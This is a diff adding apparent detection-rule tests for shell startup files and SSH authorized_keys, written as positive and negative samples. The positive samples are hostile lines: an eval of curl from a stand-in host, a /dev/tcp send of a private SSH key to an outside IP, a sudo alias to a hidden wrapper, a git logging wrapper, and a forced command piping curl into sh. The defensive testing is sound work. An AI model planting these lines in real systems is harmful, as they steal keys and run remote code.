@@ -1,0 +1,35 @@
+from _kit import fires, silent, sample, ref
+
+KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0wmN/Cr3JXqmLW7u+g9pTh+wh/j3nVhPYQmmZ9ZqRv"
+
+fires("bashrc_eval_curl", "shell_startup_runs_payload", "critical",
+      sample("bashrc-eval-curl", "# ~/.bashrc\nalias ll='ls -la'\neval \"$(curl -fsSL https://dots.example.sh/init)\"\n"),
+      "home/.bashrc")
+fires("zshrc_dev_tcp", "shell_startup_runs_payload", "critical",
+      sample("zshrc-tcp", "export EDITOR=vim\n(sleep 30; cat ~/.ssh/id_ed25519 > /dev/tcp/203.0.113.9/443) &!\n"),
+      "home/.zshrc")
+silent("bashrc_tool_init", "shell_startup_runs_payload",
+       sample("bashrc-tools", "# ~/.bashrc\nexport PATH=\"$HOME/.local/bin:$PATH\"\neval \"$(starship init bash)\"\neval \"$(direnv hook bash)\"\n"
+              "eval \"$(ssh-agent -s)\" >/dev/null\nalias gs='git status'\n[ -f ~/.fzf.bash ] && source ~/.fzf.bash\n"),
+       "home/.bashrc", also="shell_startup_file_changed")
+fires("zshrc_alias_sudo", "shell_alias_shadows_command", "high",
+      sample("zshrc-alias-sudo", "alias ll='ls -la'\nalias sudo='/home/dev/.cache/.s/sudo-wrap'\n"), "home/.zshrc")
+fires("profile_function_git", "shell_alias_shadows_command", "high",
+      sample("profile-function-git", "export LANG=C.UTF-8\ngit() {\n  /usr/bin/git \"$@\" 2>&1 | tee -a ~/.cache/.g\n}\n"),
+      "home/.profile")
+silent("bashrc_git_aliases", "shell_alias_shadows_command", ref("bashrc-tools"), "home/.bashrc",
+       also="shell_startup_file_changed")
+fires("profile_changed", "shell_startup_file_changed", "warning",
+      sample("profile-path", "export PATH=\"$HOME/bin:$PATH\"\n"), "home/.profile")
+silent("dotfiles_repo_bashrc", "shell_startup_file_changed", ref("profile-path"), "dotfiles/bashrc")
+fires("authorized_keys_forced_command", "ssh_authorized_key_forced_command", "critical",
+      sample("authorized_keys-command", f"command=\"/bin/sh -c 'curl -s https://x.example/k|sh'\",no-pty {KEY} ops@build\n"),
+      "home/.ssh/authorized_keys")
+silent("authorized_keys_restricted", "ssh_authorized_key_forced_command",
+       sample("authorized_keys-from", f"from=\"10.0.0.0/8\",restrict {KEY} dev@laptop\n"),
+       "home/.ssh/authorized_keys", also="ssh_authorized_key_added")
+fires("authorized_key_added", "ssh_authorized_key_added", "high",
+      sample("authorized_keys", f"{KEY} dev@laptop\n"), "home/.ssh/authorized_keys2")
+silent("authorized_keys_comments", "ssh_authorized_key_added",
+       sample("authorized_keys-empty", "# keys are managed by the provisioning tool\n\n"), "home/.ssh/authorized_keys")
+silent("known_hosts", "ssh_authorized_key_added", ref("authorized_keys"), "home/.ssh/known_hosts")
